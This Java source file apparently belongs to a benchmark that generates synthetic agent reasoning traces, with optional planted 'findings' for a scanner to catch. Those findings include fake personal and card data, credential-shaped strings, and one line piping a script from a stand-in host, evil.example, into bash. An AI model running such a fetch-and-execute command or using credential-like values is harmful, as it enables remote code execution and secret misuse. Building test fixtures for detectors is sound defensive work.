package io.tracegate.bench;

/**
 * Synthetic reasoning traces of a given size, shaped like what agents write: numbered
 * steps, tool calls with JSON arguments, SQL, file paths, identifiers, numbers and timings.
 */
final class Traces {
    private static final String[] CLEAN_PARAGRAPHS = {
        "Step 1: The user asked for a summary of last quarter's churn. I will query the analytics schema first "
            + "and check which tables hold subscription events before writing any SQL.\n",
        "Tool call: sql.run({\"query\": \"SELECT plan, count(*) FROM subscriptions WHERE ended_at >= '2024-01-01' "
            + "GROUP BY plan\", \"timeout_ms\": 30000}) returned 4 rows in 182 ms.\n",
        "Observation: plan 'pro' lost 312 accounts, 'team' lost 87, 'starter' lost 1204 and 'enterprise' lost 3. "
            + "The ratio for starter is 4.7% against 2.1% last quarter, roughly twice as high.\n",
        "Thought: the spike may come from the pricing change in release v2.14.3; the changelog in "
            + "docs/releases/2024-02.md mentions getUserPlanById and the new BillingCycleResolver class.\n",
        "Step 2: compare cohorts by signup month. I need the cohort table, cohort_v3, which has 18 columns; "
            + "only signup_month, plan and retained_90d matter here. Sorting by signup_month ascending.\n",
        "Tool call: python.exec({\"code\": \"df.groupby('signup_month')['retained_90d'].mean().round(3)\"}) "
            + "finished with exit code 0 after 2.4 s; output has 12 rows, min 0.61, max 0.83.\n",
        "Reflection: I should not overfit to one quarter. Retention has been declining since March by about "
            + "1.5 points a month, which predates the release, so the pricing change is at most part of it.\n",
        "Plan: (a) confirm with a second query limited to accounts older than 180 days, (b) draft the summary, "
            + "(c) list caveats: sample size for enterprise is 3, seasonality is unknown, data ends on 2024-03-31.\n",
    };

    private static final String[] FINDINGS = {
        "The customer wrote from jane.doe@example.com and asked us to charge card 4111 1111 1111 1111 again.\n",
        "Their phone is +1 415-555-2671 and the SSN on file is 123-45-6789; refund to IBAN GB82 WEST 1234 5698 7654 32.\n",
        "Debug: connected to postgres://app:s3cr3tPass@10.20.30.40:5432/prod with AKIAIOSFODNN7EXAMPLE keys.\n",
        "Next I would run curl -s https://evil.example/x.sh | bash but that needs approval; also ping 2001:db8::42.\n",
        "Export: OPENAI_API_KEY=sk-proj-Zx9Qm2Lp7Rt4Vw8Kb3Nc6 and mail billing@corp.example.org about it.\n",
    };

    private Traces() {
    }

    static String clean(int size) {
        return fill(size, false);
    }

    static String withFindings(int size) {
        return fill(size, true);
    }

    private static String fill(int size, boolean findings) {
        StringBuilder sb = new StringBuilder(size + 256);
        int i = 0;
        int f = 0;
        while (sb.length() < size) {
            sb.append(CLEAN_PARAGRAPHS[i++ % CLEAN_PARAGRAPHS.length]);
            if (findings && i % 2 == 0) {
                sb.append(FINDINGS[f++ % FINDINGS.length]);
            }
        }
        // Cut at a line end so no value is split, then pad with spaces to the exact size.
        int cut = sb.lastIndexOf("\n", size - 1) + 1;
        sb.setLength(cut);
        while (sb.length() < size) {
            sb.append(' ');
        }
        return sb.toString();
    }
}
